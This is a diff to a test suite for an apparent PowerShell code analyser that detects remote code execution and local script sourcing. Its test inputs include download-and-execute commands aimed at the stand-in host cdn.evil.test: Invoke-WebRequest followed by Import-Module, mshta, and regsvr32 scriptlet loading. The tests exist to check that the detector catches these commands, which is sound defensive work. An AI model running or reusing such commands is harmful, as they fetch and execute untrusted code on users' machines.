@@ -71,6 +71,27 @@ describe('PowerShell: remote code execution (execute with downloaded code)', () 
     ).toBe(true);
   });
 
+  it('a module downloaded then imported', async () => {
+    const r = await ps(
+      `Invoke-WebRequest https://cdn.evil.test/m.psm1 -OutFile m.psm1\nImport-Module .\\m.psm1`,
+    );
+    expect(ofKind(r, 'execute').map((b) => `${b.via}:${b.code.from}`)).toEqual([
+      'Import-Module:https://cdn.evil.test/m.psm1',
+    ]);
+  });
+
+  it('local scripts run or dot-sourced are sources the lead follows', async () => {
+    const r = await ps(
+      `. .\\lib\\common.ps1\n& "$PSScriptRoot\\helper.ps1" -Verbose\n.\\setup.ps1\nImport-Module ./tools/mod.psm1\nImport-Module Az.Accounts`,
+    );
+    expect(ofKind(r, 'source').map((b) => b.target.text)).toEqual([
+      '.\\lib\\common.ps1',
+      '${psscriptroot}\\helper.ps1',
+      '.\\setup.ps1',
+      './tools/mod.psm1',
+    ]);
+  });
+
   it('mshta and regsvr32 fetching scriptlets', async () => {
     const r = await ps(
       `mshta https://cdn.evil.test/x.hta\nregsvr32 /s /n /u /i:https://cdn.evil.test/x.sct scrobj.dll`,
